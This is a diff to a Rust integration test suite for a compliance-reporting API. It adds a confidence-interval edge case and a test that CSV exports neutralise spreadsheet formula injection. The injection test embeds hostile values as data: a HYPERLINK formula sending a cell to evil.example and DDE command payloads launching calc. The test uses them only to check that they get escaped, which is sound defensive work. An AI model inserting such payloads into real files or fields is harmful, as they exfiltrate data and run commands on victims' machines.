@@ -38,13 +38,24 @@ async fn approved_visits(app: &TestApp, org: &Org, answers: &[Value]) -> Vec<Vis
 async fn approved_visits_at(
     app: &TestApp,
     org: &Org,
+    place: (&str, &str),
+    answers: &[Value],
+) -> Vec<Visit> {
+    approved_visits_on(app, org, checklist(), place, answers).await
+}
+
+/// The same with another checklist document.
+async fn approved_visits_on(
+    app: &TestApp,
+    org: &Org,
+    checklist: Value,
     (code, region): (&str, &str),
     answers: &[Value],
 ) -> Vec<Visit> {
     let manager = Some(org.manager.access_token.as_str());
     let shopper = Some(org.shopper.access_token.as_str());
     let version = app
-        .post("/v1/checklists/import?publish=true", manager, checklist())
+        .post("/v1/checklists/import?publish=true", manager, checklist)
         .await
         .expect(201)
         .body["id"]
@@ -705,4 +716,151 @@ async fn self_assessments_sit_beside_delivery_with_the_organization_wide_figure(
     app.get("/v1/reports/self-assessment", shopper)
         .await
         .expect_problem(403);
+}
+
+#[actix_web::test]
+async fn a_standard_delivered_perfectly_against_a_target_of_one_is_no_shortfall() {
+    let app = TestApp::spawn().await;
+    let org = app.seed_org("Acme").await;
+    let mut doc = checklist();
+    doc["standards_book"]["standards"][0]["target"] = json!(1.0);
+    // Six visits all compliant on S1: the general Wilson formula puts the upper end at
+    // 0.9999999999999999 for n = 6, which read as a significant shortfall against 1.0.
+    let perfect =
+        json!({"greeted": {"value": true}, "friendly": {"value": 5}, "clean": {"value": true}});
+    approved_visits_on(&app, &org, doc, ("L1", "East"), &vec![perfect; 6]).await;
+    let report = app
+        .get("/v1/reports/gaps", Some(&org.manager.access_token))
+        .await
+        .expect(200)
+        .body;
+    let s1 = row(&report, "standard", "S1");
+    assert_eq!(s1["n"], 6);
+    assert_eq!(s1["delivered"], 1.0);
+    assert_eq!(s1["ci_high"], 1.0, "{s1}");
+    close(&s1["ci_low"], 6.0 / (6.0 + 1.96 * 1.96));
+    assert_eq!(s1["gap"], 0.0);
+    assert_eq!(s1["significant"], false, "{s1}");
+}
+
+/// The CSV a client receives, parsed as a spreadsheet would split it.
+async fn csv_cells(app: &TestApp, token: &str, path: &str) -> Vec<Vec<String>> {
+    let response = app
+        .client
+        .get(format!("{}{path}", app.base))
+        .bearer_auth(token)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), 200, "{path}");
+    let text = response.text().await.unwrap();
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text.as_bytes())
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_string).collect())
+        .collect()
+}
+
+/// No cell a spreadsheet would run: nothing starts with `=`, `+`, `-`, `@`, tab or CR unless
+/// it is a plain number.
+fn assert_no_live_formula(cells: &[Vec<String>]) {
+    for cell in cells.iter().flatten() {
+        let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+        assert!(
+            !risky || cell.parse::<f64>().is_ok(),
+            "a live formula in the CSV: {cell:?}"
+        );
+    }
+}
+
+#[actix_web::test]
+async fn csv_exports_never_hand_a_spreadsheet_a_formula() {
+    let app = TestApp::spawn().await;
+    let org = app.seed_org("Acme").await;
+    let manager = org.manager.access_token.as_str();
+    let region = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Details\")";
+    let note = "+cmd|' /C calc'!A0";
+    let comment = "@SUM(1+1)*cmd|' /C calc'!A0";
+    let mut doc = checklist();
+    doc["sections"][0]["items"]
+        .as_array_mut()
+        .unwrap()
+        .push(json!({"key": "notes", "prompt": "Notes", "type": "text"}));
+    let visits = approved_visits_on(
+        &app,
+        &org,
+        doc,
+        ("L1", region),
+        &[json!({
+            "greeted": {"value": false, "comment": comment},
+            "friendly": {"value": 2},
+            "clean": {"value": true},
+            "notes": {"value": note},
+        })],
+    )
+    .await;
+
+    // The analysts' export: the shopper's text and comment, and the region.
+    let export = csv_cells(&app, manager, "/v1/exports/submissions").await;
+    assert_no_live_formula(&export);
+    let header = &export[0];
+    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let notes = export
+        .iter()
+        .find(|line| line[column("item_key")] == "notes")
+        .expect("the notes line");
+    assert_eq!(notes[column("submission_id")], visits[0].submission);
+    assert_eq!(notes[column("value")], format!("'{note}"));
+    assert_eq!(notes[column("region")], format!("'{region}"));
+    let greeted = export
+        .iter()
+        .find(|line| line[column("item_key")] == "greeted")
+        .unwrap();
+    assert_eq!(greeted[column("comment")], format!("'{comment}"));
+
+    // Report rows: the region as a group, and negative gaps stay numbers.
+    let gaps = csv_cells(
+        &app,
+        manager,
+        "/v1/reports/gaps?format=csv&group_by=standard,region",
+    )
+    .await;
+    assert_no_live_formula(&gaps);
+    let region_column = gaps[0].iter().position(|h| h == "region").unwrap();
+    assert!(gaps[1..]
+        .iter()
+        .all(|line| line[region_column] == format!("'{region}")));
+    let ranking = csv_cells(&app, manager, "/v1/reports/ranking?format=csv").await;
+    assert_no_live_formula(&ranking);
+    assert_eq!(
+        ranking[1][ranking[0].iter().position(|h| h == "region").unwrap()],
+        format!("'{region}")
+    );
+
+    // A belief's note, in the list of beliefs as CSV.
+    app.post(
+        "/v1/self-assessments",
+        Some(manager),
+        json!({"standard": "S1", "period_from": "2026-01-01", "period_to": "2026-12-31", "believed": 0.9,
+               "note": "-2+3+cmd|' /C calc'!A0"}),
+    )
+    .await
+    .expect(201);
+    let beliefs = csv_cells(&app, manager, "/v1/self-assessments?format=csv").await;
+    assert_no_live_formula(&beliefs);
+    let note_column = beliefs[0].iter().position(|h| h == "note").unwrap();
+    assert_eq!(beliefs[1][note_column], "'-2+3+cmd|' /C calc'!A0");
+    // And it is CSV, not JSON, as the contract says.
+    let listed = app
+        .send(
+            app.client
+                .get(format!("{}/v1/self-assessments?format=csv", app.base))
+                .bearer_auth(manager),
+        )
+        .await;
+    assert!(listed
+        .header("content-type")
+        .unwrap()
+        .starts_with("text/csv"));
 }
